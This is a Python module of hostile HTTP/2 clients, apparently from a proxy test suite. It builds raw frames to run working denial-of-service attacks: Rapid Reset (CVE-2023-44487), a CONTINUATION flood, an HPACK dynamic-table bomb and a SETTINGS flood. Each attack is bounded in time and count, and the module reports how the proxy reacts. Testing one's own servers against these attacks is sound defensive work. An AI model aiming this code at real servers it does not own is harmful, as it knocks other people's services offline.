"""Hostile HTTP/2 clients for the suite, in raw frames (the `h2` library
refuses to send most of them): each runs on a TLS socket whose ALPN is h2,
bounded in count and time, and returns what the proxy did to it: a GOAWAY
(with its error code), a close, stream resets, statuses."""
import select, ssl, struct, time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(kind, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", sid & 0x7FFFFFFF) + payload


def integer(value, prefix_bits, first=0):
    """An HPACK integer with an N-bit prefix (RFC 7541 5.1)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = bytearray([first | limit]), value - limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(index, value, indexing=False):
    """A literal header field with an indexed name (static table), without or with indexing."""
    data = value.encode() if isinstance(value, str) else value
    return (integer(index, 6, 0x40) if indexing else integer(index, 4)) + integer(len(data), 7) + data


def new_name(name, value, indexing=False):
    n, v = name.encode(), value.encode() if isinstance(value, str) else value
    return (b"\x40" if indexing else b"\x00") + integer(len(n), 7) + n + integer(len(v), 7) + v


def request_block(authority, path):
    """:method GET, :scheme https, :path, :authority, no dynamic table use."""
    return b"\x82\x87" + literal(4, path) + literal(1, authority)


def start(sock):
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))


class Watcher:
    """Reads the proxy's frames: GOAWAY, RST_STREAM, response statuses (HPACK decoded in order), a close."""

    def __init__(self, sock):
        self.sock, self.buffer = sock, b""
        self.goaway, self.closed, self.resets, self.statuses, self.frames = None, False, {}, {}, 0
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 30
        self.decoder.max_allowed_table_size = 1 << 16
        self.block, self.block_sid = b"", None
        self.began, self.ended_at = time.monotonic(), None

    def poll(self, timeout):
        """Reads for up to timeout; True while the connection is open."""
        deadline = time.monotonic() + timeout
        while not self.closed:
            left = deadline - time.monotonic()
            pending = isinstance(self.sock, ssl.SSLSocket) and self.sock.pending()
            if not pending and (left <= 0 or not select.select([self.sock], [], [], left)[0]):
                break
            try:
                data = self.sock.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError):
                continue
            except (OSError, ssl.SSLError):
                data = b""
            if not data:
                self.closed = True
                self.ended_at = self.ended_at or time.monotonic()
                break
            self.buffer += data
            self.parse()
        return not self.closed

    def parse(self):
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags, sid = self.buffer[3], self.buffer[4], int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
            payload, self.buffer = self.buffer[9:9 + length], self.buffer[9 + length:]
            self.frames += 1
            if kind == GOAWAY and len(payload) >= 8 and self.goaway is None:
                self.goaway = int.from_bytes(payload[4:8], "big")
                self.ended_at = time.monotonic()
            elif kind == RST_STREAM and len(payload) >= 4:
                self.resets[sid] = int.from_bytes(payload[:4], "big")
            elif kind in (HEADERS, CONTINUATION):
                if kind == HEADERS:
                    if flags & 0x8:  # padded
                        payload = payload[1:len(payload) - payload[0]]
                    if flags & 0x20:  # priority
                        payload = payload[5:]
                    self.block, self.block_sid = b"", sid
                self.block += payload
                if flags & END_HEADERS:
                    try:
                        headers = dict(self.decoder.decode(self.block))
                        status = headers.get(":status") or headers.get(b":status")
                        if status is not None and self.block_sid not in self.statuses:
                            self.statuses[self.block_sid] = status.decode() if isinstance(status, bytes) else status
                    except Exception:
                        pass

    def finish(self, timeout=10, after_goaway=3):
        """Reads until the close, timeout, or after_goaway seconds past a GOAWAY (is the connection closed too?)."""
        deadline = time.monotonic() + timeout
        while not self.closed and time.monotonic() < deadline:
            if self.goaway is not None:
                deadline = min(deadline, self.ended_at + after_goaway)
            self.poll(min(0.2, max(0.0, deadline - time.monotonic())))

    def ended(self):
        return self.closed or self.goaway is not None

    def describe(self):
        after = " (%.1f s after the attack began)" % (self.ended_at - self.began) if self.ended_at else ""
        return "GOAWAY %s%s, connection closed %s, %d streams reset, statuses %s, %d frames read" % (
            self.goaway, after, self.closed, len(self.resets), sorted(set(self.statuses.values())), self.frames)


def send(sock, watcher, data):
    """Sends data unless the proxy has ended the connection; False when it had (or the write failed)."""
    try:
        sock.sendall(data)
    except (OSError, ssl.SSLError):
        watcher.closed = True
        return False
    return True


def rapid_reset(sock, authority, path, streams=10000, seconds=20):
    """CVE-2023-44487: open a stream and reset it at once, streams times, as fast as the socket takes them."""
    start(sock)
    watcher, sent, began = Watcher(sock), 0, time.monotonic()
    block = request_block(authority, path)
    while sent < streams and time.monotonic() - began < seconds and not watcher.ended():
        batch = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, block) + frame(RST_STREAM, 0, 1 + 2 * i, struct.pack(">I", 8))
                         for i in range(sent, min(sent + 250, streams)))
        if not send(sock, watcher, batch):
            break
        sent = min(sent + 250, streams)
        watcher.poll(0)
    said = "%d streams opened and reset in %.1f s" % (sent, time.monotonic() - began)
    watcher.finish()
    return watcher, said


def continuation_flood(sock, authority, path, limit=16 << 20, seconds=20):
    """CVE-2024-27316 class: a HEADERS without END_HEADERS, then CONTINUATION frames that never end it."""
    start(sock)
    watcher, began = Watcher(sock), time.monotonic()
    sent = 0
    if send(sock, watcher, frame(HEADERS, END_STREAM, 1, request_block(authority, path))):
        fragment = new_name("x-a", "a" * 100) * 150  # whole header fields, so each frame alone is valid HPACK
        chunk = frame(CONTINUATION, 0, 1, fragment) * 16
        while sent < limit and time.monotonic() - began < seconds and not watcher.ended():
            if not send(sock, watcher, chunk):
                break
            sent += len(chunk)
            watcher.poll(0)
    said = "%.1f MB of CONTINUATION in %.1f s" % (sent / 1e6, time.monotonic() - began)
    watcher.finish()
    return watcher, said


def hpack_bomb(sock, authority, path, streams=20, references=16000):
    """A 4 KB header value put in the dynamic table once, then referenced 16,000 times per request:
    64 MB of headers per 16 KB on the wire."""
    start(sock)
    watcher = Watcher(sock)
    entry = new_name("x-bomb", "b" * 4000, indexing=True)
    send(sock, watcher, frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block(authority, path) + entry))
    bomb = request_block(authority, path) + b"\xbe" * references  # 0xbe: index 62, the newest dynamic entry
    for i in range(streams):
        sid = 3 + 2 * i
        parts = [bomb[k:k + 16000] for k in range(0, len(bomb), 16000)]
        data = frame(HEADERS, END_STREAM | (END_HEADERS if len(parts) == 1 else 0), sid, parts[0])
        for n, part in enumerate(parts[1:], 1):
            data += frame(CONTINUATION, END_HEADERS if n == len(parts) - 1 else 0, sid, part)
        if watcher.ended() or not send(sock, watcher, data):
            break
        watcher.poll(0)
    watcher.finish()
    bomb_sids = [3 + 2 * i for i in range(streams)]
    refused = all(sid in watcher.resets or watcher.statuses.get(sid) == "431" for sid in bomb_sids)
    return watcher, refused, "%d requests of %d MB of headers each" % (streams, references * 4 // 1000)


def settings_flood(sock, frames=200000, seconds=20):
    """SETTINGS frames as fast as the socket takes them, never reading the ACKs."""
    start(sock)
    watcher, sent, began = Watcher(sock), 0, time.monotonic()
    batch = frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 2000  # MAX_CONCURRENT_STREAMS = 100, again and again
    sock.settimeout(5)
    while sent < frames and time.monotonic() - began < seconds:
        try:
            sock.sendall(batch)
        except (OSError, ssl.SSLError):  # a timeout too: the proxy stopped reading
            break
        sent += 2000
    sock.settimeout(None)
    said = "%d SETTINGS frames in %.1f s without reading" % (sent, time.monotonic() - began)
    watcher.finish()
    return watcher, said
